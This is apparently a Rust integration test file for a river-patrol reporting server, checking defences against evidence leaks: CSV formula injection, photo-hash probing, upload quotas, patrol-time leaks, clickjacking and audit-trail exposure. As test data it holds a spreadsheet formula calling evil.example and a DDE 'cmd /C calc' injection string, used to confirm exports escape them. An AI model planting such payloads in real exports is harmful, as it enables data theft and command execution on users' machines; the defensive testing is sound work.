//! Attacks: evidence. A chief or anyone signed in reaches for evidence that is not his through
//! what the server exports and shows: formulas planted in spreadsheet exports, photos fetched or
//! probed by their hash alone, a day's disk filled with pictures, a patrol's times read through
//! an issue that names it, the report page framed by another site, and the audit trail (who
//! delivered each change) read by chiefs.

use std::io::Cursor;
use std::net::TcpListener;
use std::sync::Arc;
use std::time::Duration;

use actix_web::http::header::HeaderMap;
use actix_web::http::StatusCode;
use actix_web::web;
use image::{DynamicImage, ImageFormat, RgbImage};
use serde_json::{json, Value};
use server::auth::password::PasswordCost;
use server::demo::{self, CHIEF, CHIEF_2, SUPERVISOR};
use server::photos::PhotoSettings;
use server::state::now_ms;
use server::stats::query::day_string;
use server::{http_server, AppState, Settings};
use sync_core::authz::in_scope;
use sync_core::doc::{DocKind, IssueDoc, NewIssue};
use sync_core::model::{Geometry, PhotoRef, PhotoRole, Severity};
use sync_core::photo::sha256_hex;

use crate::harness::{TestServer, SIGNING_KEY};
use crate::phone::Phone;

const DAY_MS: i64 = 86_400_000;

/// A camera-like JPEG: textured, so it does not compress to nothing.
fn jpeg(width: u32, height: u32, seed: u32) -> Vec<u8> {
    let picture = RgbImage::from_fn(width, height, |x, y| {
        let v = x.wrapping_mul(31) ^ y.wrapping_mul(17) ^ seed.wrapping_mul(2_654_435_761);
        image::Rgb([v as u8, (v >> 8) as u8, (x + y) as u8])
    });
    let mut out = Vec::new();
    DynamicImage::ImageRgb8(picture)
        .write_to(&mut Cursor::new(&mut out), ImageFormat::Jpeg)
        .unwrap();
    out
}

struct Raw {
    status: StatusCode,
    headers: HeaderMap,
    body: Vec<u8>,
}

impl Raw {
    fn json(&self) -> Value {
        serde_json::from_slice(&self.body).unwrap_or(Value::Null)
    }

    fn header(&self, name: &str) -> String {
        self.headers
            .get(name)
            .and_then(|v| v.to_str().ok())
            .unwrap_or_default()
            .to_owned()
    }

    /// Status, `error` code and upload headers: everything a caller can tell an answer by,
    /// except the message text (which names the hash).
    fn shape(&self) -> (u16, Value, String, String) {
        (
            self.status.as_u16(),
            self.json()["error"].clone(),
            self.header("Upload-Offset"),
            self.header("Upload-Complete"),
        )
    }
}

/// Any request to `base`, with a raw body.
async fn send(
    base: &str,
    method: &str,
    path: &str,
    token: Option<&str>,
    headers: &[(&str, String)],
    body: Option<Vec<u8>>,
) -> Raw {
    let client = awc::Client::builder()
        .timeout(Duration::from_secs(30))
        .finish();
    let method = actix_web::http::Method::from_bytes(method.as_bytes()).unwrap();
    let mut req = client.request(method, format!("{base}{path}"));
    if let Some(token) = token {
        req = req.insert_header(("Authorization", format!("Bearer {token}")));
    }
    for (name, value) in headers {
        req = req.insert_header((*name, value.clone()));
    }
    let mut res = match body {
        Some(body) => {
            req.content_type("application/octet-stream")
                .send_body(body)
                .await
        }
        None => req.send().await,
    }
    .expect("request sent");
    let body = res
        .body()
        .limit(64 * 1024 * 1024)
        .await
        .expect("body")
        .to_vec();
    Raw {
        status: res.status(),
        headers: res.headers().clone(),
        body,
    }
}

async fn put_photo(base: &str, token: &str, sha: &str, bytes: &[u8]) -> Raw {
    send(
        base,
        "PUT",
        &format!("/api/v1/blobs/{sha}"),
        Some(token),
        &[],
        Some(bytes.to_vec()),
    )
    .await
}

async fn blob(s: &TestServer, method: &str, path: &str, token: &str) -> Raw {
    send(&s.base, method, path, Some(token), &[], None).await
}

/// A point of the demo asset `asset`.
fn on_asset(asset: &str) -> [f64; 2] {
    match &demo::facts().asset(asset).unwrap().geometry {
        Geometry::LineString(line) => line[0],
        Geometry::Polygon(rings) => rings[0][0],
    }
}

/// `phone`'s user reports a problem on `asset` with these photos (and naming `patrol`), and
/// syncs it. Returns the issue id.
async fn report(
    phone: &Arc<Phone>,
    asset: &str,
    category: &str,
    patrol: Option<String>,
    photos: &[PhotoRef],
) -> String {
    let facts = demo::facts();
    let asset = facts.asset(asset).unwrap();
    let mut issue = IssueDoc::report(
        phone.actor.clone(),
        &phone.user,
        &phone.device,
        now_ms(),
        &NewIssue {
            system: asset.system,
            category: category.into(),
            severity: Severity::General,
            asset: asset.id.clone(),
            division: asset.division.clone(),
            location: on_asset(&asset.id),
            description: "河岸有问题".into(),
            patrol,
        },
    )
    .unwrap();
    for photo in photos {
        issue.add_photo(photo).unwrap();
    }
    let id = issue.id().to_owned();
    phone.save(&mut issue);
    let synced = phone.sync(now_ms()).await;
    assert_eq!(synced.refused, 0, "{synced:?}");
    id
}

fn evidence_photo(sha: &str, bytes: usize, taken_at_ms: i64, at: [f64; 2]) -> PhotoRef {
    PhotoRef {
        sha256: sha.to_owned(),
        role: PhotoRole::Before,
        taken_at_ms: Some(taken_at_ms),
        position: Some(at),
        bytes: bytes as u64,
    }
}

/// Every cell of a CSV export (after its byte-order mark).
fn csv_cells(bytes: &[u8]) -> Vec<String> {
    assert!(bytes.starts_with(b"\xEF\xBB\xBF"));
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(&bytes[3..]);
    reader
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
        .collect()
}

/// Formulas in the text the exports carry: a problem category and a department name, as a
/// roster or category list imported from a spreadsheet would bring them (a chief can no longer
/// invent a category: a report must name one of the reference data's). The supervisor's office
/// opens the CSV exports in Excel or WPS. No text cell may begin with `=`, `+`, `-`, `@`, a tab or
/// a carriage return: such text is written with a leading apostrophe, and the numbers stay
/// numbers.
#[actix_web::test]
async fn csv_exports_never_start_a_text_cell_with_a_formula() {
    let s = TestServer::demo().await;
    let planted = "=HYPERLINK(\"http://evil.example/steal\",\"点击查看详情\")";
    let mut categories = sync_core::model::default_categories();
    categories.push(sync_core::model::Category {
        code: planted.into(),
        system: sync_core::model::System::River,
        name_zh: "链接".into(),
        name_en: "link".into(),
    });
    s.state
        .store
        .put_meta(
            server::reference::CATEGORIES_KEY,
            &serde_json::to_vec(&categories).unwrap(),
        )
        .unwrap();
    let department = "@SUM(1+1)*cmd|' /C calc'!A0";
    let mut handler = s
        .state
        .store
        .find_user_by_username(server::demo::HANDLER)
        .unwrap()
        .unwrap();
    handler.user.id = "u-formula-handler".into();
    handler.user.username = "formula-handler".into();
    handler.user.role = sync_core::model::Role::Handler {
        department: department.into(),
    };
    s.state.store.create_user(&handler).unwrap();
    let supervisor = s.token(SUPERVISOR, "pc").await;
    let phone = Phone::login(&s, CHIEF, "chief-phone").await;
    let id = report(&phone, "river-thh-01", planted, None, &[]).await;
    let path = format!("/api/v1/issues/{id}/events");
    s.post(&path, &supervisor, json!({"kind": "accepted"}))
        .await
        .expect_ok();
    s.post(
        &path,
        &supervisor,
        json!({"kind": "assigned", "assignee": {"department": department}, "deadline_ms": now_ms() + 7 * DAY_MS}),
    )
    .await
    .expect_ok();

    let now = now_ms();
    let period = format!(
        "from={}&to={}",
        day_string(now - 29 * DAY_MS),
        day_string(now)
    );
    let mut seen = Vec::new();
    for table in ["by_category", "overdue_by_department", "by_division"] {
        let got = send(
            &s.base,
            "GET",
            &format!("/api/v1/stats/issues?{period}&format=csv&table={table}"),
            Some(&supervisor),
            &[],
            None,
        )
        .await;
        assert_eq!(got.status, StatusCode::OK, "{table}");
        let cells = csv_cells(&got.body);
        for cell in &cells {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{table}: a spreadsheet would run {cell:?}"
            );
        }
        seen.extend(cells);
    }
    assert!(seen.contains(&format!("'{planted}")), "{seen:?}");
    assert!(seen.contains(&format!("'{department}")), "{seen:?}");
    // The figures beside them are still plain numbers.
    assert!(seen.iter().any(|c| c.parse::<u64>().is_ok_and(|n| n > 0)));
    s.stop().await;
}

/// A chief learns the hash of a photo in another village's record (it travels in records,
/// exports and logs) and writes it into a report of his own. Before, any record of his that
/// named the hash opened the photo to him. A record only shows a photo attached by the one who
/// uploaded it, so he gets exactly what a photo never uploaded gets; the supervisor of the
/// village where it was taken, and the chief who took it, still see it.
#[actix_web::test]
async fn a_hash_copied_into_ones_own_record_opens_no_photo() {
    let s = TestServer::demo().await;
    let supervisor = s.token(SUPERVISOR, "pc").await;
    let owner = Phone::login(&s, CHIEF, "chief-phone").await;
    let chief = s.token(CHIEF, "chief-pc").await;
    let thief = Phone::login(&s, CHIEF_2, "chief2-phone").await;
    let thief_token = s.token(CHIEF_2, "chief2-pc").await;

    let photo = jpeg(800, 600, 41);
    let sha = sha256_hex(&photo);
    put_photo(&s.base, &chief, &sha, &photo).await;
    let taken = now_ms() - 60_000;
    let here = on_asset("river-thh-01");
    let genuine = report(
        &owner,
        "river-thh-01",
        "river.garbage",
        None,
        &[evidence_photo(&sha, photo.len(), taken, here)],
    )
    .await;
    let never = sha256_hex(b"a photo nobody uploaded");
    let copied = report(
        &thief,
        "river-thh-03",
        "river.garbage",
        None,
        &[
            evidence_photo(&sha, photo.len(), taken, on_asset("river-thh-03")),
            evidence_photo(&never, 1_000, taken, on_asset("river-thh-03")),
        ],
    )
    .await;

    for path in [
        format!("/api/v1/blobs/{sha}"),
        format!("/api/v1/blobs/{sha}/thumbnail"),
    ] {
        let stolen = blob(&s, "GET", &path, &thief_token).await;
        let missing = blob(&s, "GET", &path.replace(&sha, &never), &thief_token).await;
        assert_eq!(stolen.status, StatusCode::NOT_FOUND, "{path}");
        assert_eq!(stolen.shape(), missing.shape(), "{path}");
        assert!(stolen.body.len() < 200, "no photo bytes");
        // The honest ones still see it.
        for token in [&chief, &supervisor] {
            let got = blob(&s, "GET", &path, token).await;
            assert_eq!(got.status, StatusCode::OK, "{path}");
        }
    }
    // His record's view does not tell him that the photo arrived, nor when: it reads like the
    // photo nobody uploaded. The genuine record shows it received.
    let view = s.get(&format!("/api/v1/docs/{copied}"), &thief_token).await;
    let photos = view.expect_ok()["photos"]["photos"].clone();
    assert_eq!(photos[0]["sha256"], sha.as_str());
    for key in ["present", "received_at_ms", "evidence"] {
        assert_eq!(photos[0][key], photos[1][key], "{key}: {photos}");
    }
    assert_eq!(
        view.body["photos"]["missing"],
        json!([sha.clone(), never.clone()])
    );
    let view = s.get(&format!("/api/v1/docs/{genuine}"), &supervisor).await;
    let first = &view.expect_ok()["photos"]["photos"][0];
    assert_eq!(first["present"], true, "{first}");
    assert!(first["received_at_ms"].is_i64(), "{first}");
    // The issue page and the issue list say the same: the copied photo is not his report's.
    let page = s
        .get(&format!("/api/v1/issues/{copied}"), &thief_token)
        .await;
    let page = page.expect_ok();
    assert_eq!(
        page["photos"][0]["stored"], page["photos"][1]["stored"],
        "{page}"
    );
    assert_eq!(page["photos"][0]["stored"], false, "{page}");
    assert_eq!(
        page["photo_completeness"]["missing"],
        json!([sha.clone(), never.clone()]
            .into_iter()
            .collect::<std::collections::BTreeSet<_>>())
    );
    let list = s.get("/api/v1/issues?limit=500", &thief_token).await;
    let row = list.expect_ok()["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["id"] == copied.as_str())
        .unwrap()
        .clone();
    assert_eq!(row["photo_completeness"]["referenced"], 2, "{row}");
    assert_eq!(
        row["photo_completeness"]["missing"]
            .as_array()
            .unwrap()
            .len(),
        2,
        "{row}"
    );
    // The genuine issue's page shows its photo stored, to its supervisor.
    let page = s
        .get(&format!("/api/v1/issues/{genuine}"), &supervisor)
        .await;
    assert_eq!(page.expect_ok()["photos"][0]["stored"], true);
    s.stop().await;
}

/// Anyone signed in asks the server about a hash. Before, `HEAD` answered 200 and the size for
/// every stored photo, and a `PUT` of any bytes answered 200 "already stored": whether a photo
/// of a given hash is on the server was anyone's to learn. Now both answer a caller who neither
/// uploaded it nor may see it exactly as for a photo never uploaded; only someone who sends all
/// of its bytes hears that it was there.
#[actix_web::test]
async fn head_and_put_tell_strangers_nothing_about_stored_photos() {
    let s = TestServer::demo().await;
    let chief = s.token(CHIEF, "chief-pc").await;
    let stranger = s.token(CHIEF_2, "chief2-pc").await;
    let photo = jpeg(640, 480, 43);
    let sha = sha256_hex(&photo);
    assert_eq!(
        put_photo(&s.base, &chief, &sha, &photo).await.status,
        StatusCode::CREATED
    );
    let other = jpeg(640, 480, 44);
    let unknown = sha256_hex(&other);

    let probe = |name: String| {
        let (s, stranger) = (&s, &stranger);
        async move {
            let head = blob(s, "HEAD", &format!("/api/v1/blobs/{name}"), stranger).await;
            let junk = put_photo(&s.base, stranger, &name, b"not the photo at all").await;
            let chunk = send(
                &s.base,
                "PUT",
                &format!("/api/v1/blobs/{name}"),
                Some(stranger),
                &[("Content-Range", "bytes 0-9/5000".into())],
                Some(vec![0xff; 10]),
            )
            .await;
            (head.shape(), junk.shape(), chunk.shape())
        }
    };
    let stored = probe(sha.clone()).await;
    let never = probe(unknown.clone()).await;
    assert_eq!(stored.0 .0, 404, "HEAD of a stored photo to a stranger");
    assert_eq!(stored, never);

    // The uploader's own phones are told, so they do not send it twice.
    let mine = blob(&s, "HEAD", &format!("/api/v1/blobs/{sha}"), &chief).await;
    assert_eq!(mine.status, StatusCode::OK);
    assert_eq!(mine.header("Upload-Complete"), "?1");
    // Someone holding every byte of it may hear that it is stored.
    let whole = put_photo(&s.base, &stranger, &sha, &photo).await;
    assert_eq!(whole.status, StatusCode::OK, "{}", whole.json());
    s.stop().await;
}

/// A test server over the demo with `photos` as its photo bounds.
struct Bounded {
    base: String,
    state: web::Data<AppState>,
    handle: actix_web::dev::ServerHandle,
    _dir: tempfile::TempDir,
}

impl Bounded {
    async fn start(photos: PhotoSettings) -> Self {
        let dir = tempfile::tempdir().unwrap();
        let settings = Settings {
            signing_key: Some(SIGNING_KEY.into()),
            password_cost: PasswordCost::FAST_FOR_TESTS,
            photos,
            ..Settings::new(dir.path())
        };
        let state = AppState::open(&settings).unwrap();
        demo::seed(&state).unwrap();
        let state = web::Data::new(state);
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let base = format!("http://{}", listener.local_addr().unwrap());
        let server = http_server(state.clone(), listener, Some(1)).unwrap();
        let handle = server.handle();
        actix_web::rt::spawn(server);
        Self {
            base,
            state,
            handle,
            _dir: dir,
        }
    }

    async fn token(&self, username: &str) -> String {
        let body =
            json!({"username": username, "password": demo::DEMO_PASSWORD, "device_id": "phone"});
        let grant: Value = awc::Client::new()
            .post(format!("{}/api/v1/auth/login", self.base))
            .send_json(&body)
            .await
            .expect("request sent")
            .json()
            .await
            .expect("a grant");
        grant["access_token"].as_str().unwrap().to_owned()
    }

    async fn stop(self) {
        self.handle.stop(true).await;
    }
}

/// One account (a lost phone, a script with a stolen token) uploads picture after picture.
/// Before, nothing bounded it but the disk. Each user may send a configured number of bytes a
/// day; past it the server answers 429 with a JSON error and Retry-After, stores nothing, and
/// other users upload as before.
#[actix_web::test]
async fn one_account_cannot_fill_the_disk_with_photos() {
    let photos: Vec<Vec<u8>> = (0..4).map(|i| jpeg(400, 300, 50 + i)).collect();
    let largest = photos.iter().map(Vec::len).max().unwrap() as u64;
    let s = Bounded::start(PhotoSettings {
        daily_bytes_per_user: 3 * largest,
        ..PhotoSettings::default()
    })
    .await;
    let chief = s.token(CHIEF).await;
    let other = s.token(CHIEF_2).await;
    for photo in &photos[..3] {
        let put = put_photo(&s.base, &chief, &sha256_hex(photo), photo).await;
        assert_eq!(put.status, StatusCode::CREATED, "{}", put.json());
    }
    let fourth = sha256_hex(&photos[3]);
    let refused = put_photo(&s.base, &chief, &fourth, &photos[3]).await;
    assert_eq!(refused.status, StatusCode::TOO_MANY_REQUESTS);
    assert_eq!(refused.json()["error"], "photo_quota_exceeded");
    assert!(refused.json()["message"].is_string());
    let retry: u64 = refused.header("Retry-After").parse().unwrap();
    assert!((1..=86_400).contains(&retry), "{retry}");
    assert_eq!(s.state.blobs.store().record(&fourth).unwrap(), None);
    // Chunks count too: what is left of the day is taken, and the next byte is refused.
    let sent: u64 = photos[..3].iter().map(|p| p.len() as u64).sum();
    let left = usize::try_from(3 * largest - sent).unwrap();
    assert!(0 < left && left < photos[3].len() - 1, "{left}");
    let chunk = |first: usize, end: usize| {
        let (s, chief, photo) = (&s, &chief, &photos[3]);
        let fourth = fourth.clone();
        async move {
            send(
                &s.base,
                "PUT",
                &format!("/api/v1/blobs/{fourth}"),
                Some(chief),
                &[(
                    "Content-Range",
                    format!("bytes {first}-{}/{}", end - 1, photo.len()),
                )],
                Some(photo[first..end].to_vec()),
            )
            .await
        }
    };
    assert_eq!(chunk(0, left).await.status, StatusCode::ACCEPTED);
    let over = chunk(left, left + 1).await;
    assert_eq!(over.status, StatusCode::TOO_MANY_REQUESTS);
    assert_eq!(over.json()["error"], "photo_quota_exceeded");
    // Another chief's day is his own.
    let put = put_photo(&s.base, &other, &fourth, &photos[3]).await;
    assert_eq!(put.status, StatusCode::CREATED);
    s.stop().await;
}

/// Photos uploaded and never referenced by any record (a phone that gave up, or pictures sent
/// only to take space) are removed once the grace period after their arrival has passed;
/// referenced photos stay, and nothing is removed before then.
#[actix_web::test]
async fn photos_no_record_references_are_collected_after_the_grace_period() {
    let s = TestServer::demo().await;
    let chief = s.token(CHIEF, "chief-pc").await;
    let phone = Phone::login(&s, CHIEF, "chief-phone").await;
    let kept = jpeg(320, 240, 61);
    let orphan = jpeg(320, 240, 62);
    let (kept_sha, orphan_sha) = (sha256_hex(&kept), sha256_hex(&orphan));
    for (sha, bytes) in [(&kept_sha, &kept), (&orphan_sha, &orphan)] {
        assert_eq!(
            put_photo(&s.base, &chief, sha, bytes).await.status,
            StatusCode::CREATED
        );
    }
    report(
        &phone,
        "river-thh-01",
        "river.garbage",
        None,
        &[evidence_photo(
            &kept_sha,
            kept.len(),
            now_ms(),
            on_asset("river-thh-01"),
        )],
    )
    .await;

    let grace = server::photos::DEFAULT_UNREFERENCED_PHOTO_AFTER.as_millis() as i64;
    assert_eq!(
        server::photos::collect_unreferenced(&s.state, now_ms() + grace - 60_000).unwrap(),
        0,
        "nothing before the grace period has passed"
    );
    assert_eq!(
        server::photos::collect_unreferenced(&s.state, now_ms() + grace + 60_000).unwrap(),
        1
    );
    assert_eq!(s.state.blobs.store().record(&orphan_sha).unwrap(), None);
    let head = blob(&s, "HEAD", &format!("/api/v1/blobs/{orphan_sha}"), &chief).await;
    assert_eq!(head.status, StatusCode::NOT_FOUND);
    let got = blob(&s, "GET", &format!("/api/v1/blobs/{kept_sha}"), &chief).await;
    assert_eq!(got.status, StatusCode::OK);
    assert_eq!(got.body, kept);
    s.stop().await;
}

/// A record whose bytes no longer read (damage on disk) holds evidence photos, and the server
/// restarts, so the photo index is rebuilt without them. Before, collecting unreferenced photos
/// skipped the record, counted its photos as referenced by nothing, and deleted them once the
/// grace period had passed. Now nothing is collected while a document cannot be read; once it
/// reads again, only the photo no record references goes.
#[actix_web::test]
async fn photos_of_a_record_that_cannot_be_read_are_never_collected() {
    let dir = tempfile::tempdir().unwrap();
    let s = TestServer::start_in(dir.path(), true).await;
    let chief = s.token(CHIEF, "chief-pc").await;
    let phone = Phone::login(&s, CHIEF, "chief-phone").await;
    let evidence = jpeg(320, 240, 71);
    let orphan = jpeg(320, 240, 72);
    let (evidence_sha, orphan_sha) = (sha256_hex(&evidence), sha256_hex(&orphan));
    for (sha, bytes) in [(&evidence_sha, &evidence), (&orphan_sha, &orphan)] {
        assert_eq!(
            put_photo(&s.base, &chief, sha, bytes).await.status,
            StatusCode::CREATED
        );
    }
    let id = report(
        &phone,
        "river-thh-01",
        "river.garbage",
        None,
        &[evidence_photo(
            &evidence_sha,
            evidence.len(),
            now_ms(),
            on_asset("river-thh-01"),
        )],
    )
    .await;
    let stored = s.state.store.document(&id).unwrap().unwrap();
    s.state
        .store
        .save_document(&id, &stored.meta, b"not an automerge document", &[])
        .unwrap();
    s.stop().await;

    let s = TestServer::start_in(dir.path(), false).await;
    let grace = server::photos::DEFAULT_UNREFERENCED_PHOTO_AFTER.as_millis() as i64;
    let late = now_ms() + grace + 60_000;
    assert_eq!(
        server::photos::collect_unreferenced(&s.state, late).unwrap(),
        0,
        "nothing is removed while a record cannot be read"
    );
    let store = s.state.blobs.store();
    assert!(store.record(&evidence_sha).unwrap().is_some());
    assert!(store.record(&orphan_sha).unwrap().is_some());
    assert_eq!(
        s.state.photo_index.unreadable(&*s.state.store).unwrap(),
        vec![id.clone()]
    );

    // Repaired (its good bytes saved again): the orphan goes, the evidence stays.
    s.state
        .store
        .save_document(&id, &stored.meta, &stored.bytes, &[])
        .unwrap();
    assert_eq!(
        server::photos::collect_unreferenced(&s.state, late).unwrap(),
        1
    );
    assert!(store.record(&evidence_sha).unwrap().is_some());
    assert_eq!(store.record(&orphan_sha).unwrap(), None);
    s.stop().await;
}

/// A chief names, in a report of his own, a patrol of another village (patrol ids travel in
/// records and logs). Before, the report's view judged its photos against that patrol's window
/// and so printed the patrol's start and end. A patrol outside the viewer's scope now counts as
/// one that has not arrived: the view is the same as for a patrol id that does not exist.
#[actix_web::test]
async fn an_issue_naming_a_patrol_out_of_scope_reveals_none_of_its_times() {
    let s = TestServer::demo().await;
    let thief = Phone::login(&s, CHIEF_2, "chief2-phone").await;
    let thief_token = s.token(CHIEF_2, "chief2-pc").await;
    let store = s.state.store.as_ref();
    let patrol = store
        .all_documents()
        .unwrap()
        .into_iter()
        .find(|m| m.kind == DocKind::Patrol && !in_scope(&thief.user, m))
        .expect("a demo patrol outside demo-chief-2's scope");
    // A photo taken long before any demo patrol: against a real window it is flagged, with the
    // window's times.
    let taken = now_ms() - 400 * DAY_MS;
    let at = on_asset("river-thh-03");
    let photo = evidence_photo(&sha256_hex(b"chief-2's photo"), 1_000, taken, at);
    let named = report(
        &thief,
        "river-thh-03",
        "river.garbage",
        Some(patrol.id.clone()),
        std::slice::from_ref(&photo),
    )
    .await;
    let nonexistent = report(
        &thief,
        "river-thh-03",
        "river.garbage",
        Some("no-such-patrol".into()),
        std::slice::from_ref(&photo),
    )
    .await;
    let view = |id: String| {
        let (s, token) = (&s, &thief_token);
        async move {
            let got = s.get(&format!("/api/v1/docs/{id}"), token).await;
            got.expect_ok()["photos"]["photos"][0].clone()
        }
    };
    let leaked = view(named).await;
    assert_eq!(leaked, view(nonexistent).await);
    assert!(
        !leaked.to_string().contains("taken_outside_window"),
        "{leaked}"
    );
    s.stop().await;
}

/// Another site loads the report page or the dashboard in a frame and lays its own buttons over
/// them (clickjacking), or the page runs a script that was slipped into it. Every HTML page
/// forbids framing (CSP `frame-ancestors 'none'` and `X-Frame-Options: DENY`), is never sniffed
/// as another type, and runs only the server's own script files.
#[actix_web::test]
async fn pages_cannot_be_framed_and_run_only_their_own_scripts() {
    let s = TestServer::demo().await;
    let supervisor = s.token(SUPERVISOR, "pc").await;
    let now = now_ms();
    let document = format!(
        "/api/v1/stats/report.html?from={}&to={}",
        day_string(now - 29 * DAY_MS),
        day_string(now)
    );
    for path in ["/", "/report", "/report.js", document.as_str()] {
        let got = send(&s.base, "GET", path, Some(&supervisor), &[], None).await;
        assert_eq!(got.status, StatusCode::OK, "{path}");
        let csp = got.header("Content-Security-Policy");
        assert!(csp.contains("frame-ancestors 'none'"), "{path}: {csp:?}");
        assert!(csp.contains("default-src"), "{path}: {csp:?}");
        let script = csp
            .split(';')
            .find(|d| d.trim().starts_with("script-src"))
            .unwrap_or("");
        assert!(!script.contains("unsafe-inline"), "{path}: {csp:?}");
        assert_eq!(got.header("X-Frame-Options"), "DENY", "{path}");
        assert_eq!(got.header("X-Content-Type-Options"), "nosniff", "{path}");
        if got.header("Content-Type").starts_with("text/html") {
            let html = String::from_utf8_lossy(&got.body).to_string();
            // Inline script would be refused by the policy: the page must not need any.
            assert!(!html.contains("<script>"), "{path}: inline script");
            assert!(!html.contains("onclick="), "{path}: inline handler");
        }
    }
    s.stop().await;
}

/// A chief opens an issue in his scope and reads, for every event, which user and which device
/// delivered it and when the server received it: the audit trail, which `/docs/{id}/history`
/// keeps for supervisors. Chiefs now see the events without it; supervisors still see it.
#[actix_web::test]
async fn only_supervisors_see_who_delivered_each_event() {
    let s = TestServer::demo().await;
    let phone = Phone::login(&s, CHIEF, "chief-phone").await;
    let id = report(&phone, "river-thh-01", "river.garbage", None, &[]).await;
    let supervisor = s.token(SUPERVISOR, "pc").await;
    let path = format!("/api/v1/issues/{id}");
    let seen = s.get(&path, &supervisor).await;
    let first = &seen.expect_ok()["timeline"][0];
    assert!(
        first["received_from"]
            .as_str()
            .is_some_and(|from| from.contains("chief-phone")),
        "{first}"
    );
    assert!(first["received_at_ms"].is_i64(), "{first}");

    for username in [CHIEF, "demo-chief-2"] {
        let token = s.token(username, "phone-2").await;
        let got = s.get(&path, &token).await;
        if username == CHIEF_2 {
            // Not in his scope at all.
            got.expect_error(404, "not_found");
            continue;
        }
        let timeline = got.expect_ok()["timeline"].as_array().unwrap().clone();
        assert!(!timeline.is_empty());
        for row in &timeline {
            assert!(row["received_from"].is_null(), "{row}");
            assert!(row["received_at_ms"].is_null(), "{row}");
            // The event itself (who, from which device, when) stays: the chief's phone holds it.
            assert!(row["by"].is_string(), "{row}");
        }
    }
    s.stop().await;
}
